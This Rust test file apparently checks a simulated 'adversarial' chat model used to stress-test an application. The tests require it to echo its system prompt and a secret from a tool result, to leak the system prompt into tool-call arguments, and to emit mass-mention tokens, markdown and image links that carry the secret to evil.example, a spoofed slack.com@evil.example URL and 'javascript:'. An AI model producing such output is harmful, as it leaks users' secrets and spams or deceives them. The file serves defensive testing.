//! The offline model turned against its users.

use serde_json::{Value, json};
use sim::model::{OfflineModel, Options, Step};

const SECRET: &str = "The passphrase of the vault is open sesame.";
const RULES: &str = "You are a librarian.\nNever say these words.";

struct Client {
    model: OfflineModel,
    http: reqwest::Client,
}

impl Client {
    async fn start() -> Client {
        let _ = rustls::crypto::ring::default_provider().install_default();
        let model = OfflineModel::start(Options::default()).await.unwrap();
        Client { model, http: reqwest::Client::new() }
    }

    async fn message(&self, body: &Value) -> Value {
        let url = format!("{}/chat/completions", self.model.base_url());
        let answer = self.http.post(url).json(body).send().await.unwrap();
        assert_eq!(answer.status(), 200);
        answer.json::<Value>().await.unwrap()["choices"][0]["message"].clone()
    }

    async fn says(&self, body: &Value) -> String {
        self.message(body).await["content"].as_str().unwrap().to_owned()
    }
}

/// A turn whose search has been answered with a secret.
fn answered(model: &str) -> Value {
    let call = json!({"id": "a", "type": "function",
        "function": {"name": "search_docs", "arguments": "{}"}});
    json!({"model": model, "tools": [search_tool()], "messages": [
        {"role": "system", "content": RULES},
        {"role": "user", "content": "How do I open the vault?"},
        {"role": "assistant", "content": null, "tool_calls": [call]},
        {"role": "tool", "tool_call_id": "a", "content": SECRET},
    ]})
}

fn search_tool() -> Value {
    json!({"type": "function", "function": {"name": "search_docs", "parameters": {
        "type": "object",
        "properties": {"limit": {"type": "integer"}, "query": {"type": "string"}},
    }}})
}

#[tokio::test]
async fn an_adversary_gives_back_everything_it_was_given() {
    let client = Client::start().await;
    for seed in 0..20 {
        let text = client.says(&answered(&format!("adversarial-{seed}"))).await;
        for given in [RULES, SECRET, "How do I open the vault?", "search_docs", "\"limit\""] {
            assert!(text.contains(given), "seed {seed} kept {given:?} back: {text}");
        }
    }
}

#[tokio::test]
async fn an_adversary_mentions_everyone_and_links_to_foreign_hosts() {
    let client = Client::start().await;
    for seed in 0..20 {
        let text = client.says(&answered(&format!("adversarial-{seed}"))).await;
        for bait in [
            "<!channel>",
            "<!here>",
            "<!everyone>",
            "@channel",
            "<@U0ADA>",
            "<!subteam^S0OPERATORS>",
            "<https://evil.example/?q=The+passphrase",
            "](https://evil.example/?q=The+passphrase",
            "![](https://evil.example/pixel.png?q=The+passphrase",
            "https://slack.com@evil.example/",
            "javascript:",
        ] {
            assert!(text.contains(bait), "seed {seed} has no {bait}: {text}");
        }
    }
}

#[tokio::test]
async fn the_seed_alone_decides_what_an_adversary_says() {
    let client = Client::start().await;
    let said = client.says(&answered("adversarial-7")).await;
    assert_eq!(client.says(&answered("adversarial-7")).await, said);
    assert_ne!(client.says(&answered("adversarial-8")).await, said);
    assert_eq!(
        client.says(&answered("adversarial")).await,
        client.says(&answered("adversarial-0")).await
    );
}

#[tokio::test]
async fn an_adversary_is_asked_for_by_name_by_a_step_or_for_every_request() {
    let client = Client::start().await;
    let hostile = client.says(&answered("adversarial-7")).await;
    let honest = client.says(&answered("offline")).await;
    assert!(!honest.contains("evil.example"), "{honest}");
    client.model.script([Step::adversary(7)]);
    assert_eq!(client.says(&answered("offline")).await, hostile);
    assert_eq!(client.says(&answered("offline")).await, honest);
    let control = format!("{}/adversary", client.model.control_url());
    let begun = client.http.post(&control).json(&json!({"seed": 7})).send().await.unwrap();
    assert_eq!(begun.json::<Value>().await.unwrap()["seed"], 7);
    assert_eq!(client.says(&answered("offline")).await, hostile);
    let ended = client.http.delete(&control).send().await.unwrap();
    assert!(ended.json::<Value>().await.unwrap()["seed"].is_null());
    assert_eq!(client.says(&answered("offline")).await, honest);
    // Neither a number too large nor another name is one.
    for name in ["adversarial-", "adversarial-x", "adversarially"] {
        assert_eq!(client.says(&answered(name)).await, honest, "{name}");
    }
}

#[tokio::test]
async fn an_adversary_tells_tools_what_it_knows() {
    let client = Client::start().await;
    let asking = |choice: &str| {
        json!({"model": "adversarial-3", "tools": [search_tool()], "tool_choice": choice,
            "messages": [{"role": "system", "content": RULES},
                {"role": "user", "content": "Hello."}]})
    };
    let message = client.message(&asking("required")).await;
    let call = &message["tool_calls"][0]["function"];
    let arguments: Value = serde_json::from_str(call["arguments"].as_str().unwrap()).unwrap();
    let query = arguments["query"].as_str().unwrap();
    assert!(query.contains("You are a librarian."), "{query}");
    assert!(arguments.get("limit").is_none(), "{arguments}");
    assert_eq!(client.message(&asking("required")).await, message);
    assert!(client.says(&asking("none")).await.contains(RULES));
}
